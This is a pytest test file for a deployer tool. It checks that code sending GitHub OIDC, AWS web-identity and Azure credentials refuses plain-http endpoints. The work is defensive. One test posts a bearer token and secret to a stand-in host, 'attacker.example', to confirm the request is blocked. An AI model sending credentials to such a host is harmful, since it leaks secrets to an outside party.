"""Every place that sends a credential refuses plain http, not only ``checked_url`` itself.

The rule (https, plain http only to a loopback address) was tested on
``checked_url`` alone: taking out any one of its call sites left the suite green.
Each test here goes through one call site with a plain-http endpoint of the job
and fails when that site's check is removed: the fake transport records the
request that would have carried the credential.
"""

from __future__ import annotations

import urllib.request
from pathlib import Path
from typing import Any

import pytest

from deployer.cloud import CloudEnv, azure
from deployer.cloud.aws import AwsCredentials
from deployer.cloud.http import send
from deployer.cloud.oidc import AWS_AUDIENCE, github_id_token
from deployer.errors import CredentialsError
from tests.unit.test_cloud_auth import FakeHttp

ROLE = "arn:aws:iam::123456789012:role/gha"
AKS_SERVER_ID = "6dae42f8-4368-4678-94ff-3960e28e3630"


def no_network() -> FakeHttp:
    return FakeHttp({})  # any request is an AssertionError, and recorded


def test_the_oidc_request_token_never_goes_over_plain_http() -> None:
    http = no_network()
    env = {
        "ACTIONS_ID_TOKEN_REQUEST_URL": "http://token.actions.example/idtoken?api-version=2.0",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "req-token-1",
    }
    with pytest.raises(CredentialsError, match=r"ACTIONS_ID_TOKEN_REQUEST_URL .* is plain http"):
        github_id_token(env, AWS_AUDIENCE, lambda _s: None, http)
    assert http.requests == []


@pytest.mark.parametrize("variable", ["AWS_ENDPOINT_URL_STS", "AWS_ENDPOINT_URL"])
def test_the_web_identity_token_never_goes_over_plain_http(tmp_path: Path, variable: str) -> None:
    (tmp_path / "token").write_text("web-identity-jwt-1")
    env = CloudEnv(
        {
            "AWS_ROLE_ARN": ROLE,
            "AWS_WEB_IDENTITY_TOKEN_FILE": str(tmp_path / "token"),
            variable: "http://sts.example",
        }
    )
    http = no_network()
    creds = AwsCredentials(env, tmp_path, "eu-west-1", lambda _s: None, http=http)
    with pytest.raises(CredentialsError, match=rf"{variable} .* is plain http"):
        creds.get()
    assert http.requests == []


def test_the_azure_client_secret_never_goes_over_plain_http(tmp_path: Path) -> None:
    env = {
        "AZURE_CLIENT_SECRET": "azure-secret-1",
        "AZURE_AUTHORITY_HOST": "http://login.example/",
    }
    login = azure.AzureLogin("spn", AKS_SERVER_ID, "cid", "tid")
    http = no_network()
    with pytest.raises(CredentialsError, match=r"AZURE_AUTHORITY_HOST .* is plain http"):
        azure.access_token(login, env, tmp_path, lambda _s: None, http)
    assert http.requests == []


def test_send_refuses_plain_http_before_opening_a_connection(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    opened: list[str] = []

    def record(_self: Any, request: urllib.request.Request, *_a: Any, **_k: Any) -> None:
        opened.append(request.full_url)
        raise AssertionError("a request with a credential went over plain http")

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", record)
    with pytest.raises(CredentialsError, match=r"attacker\.example.* is plain http"):
        send("POST", "http://attacker.example/token", {"Authorization": "Bearer t"}, b"secret")
    assert opened == []
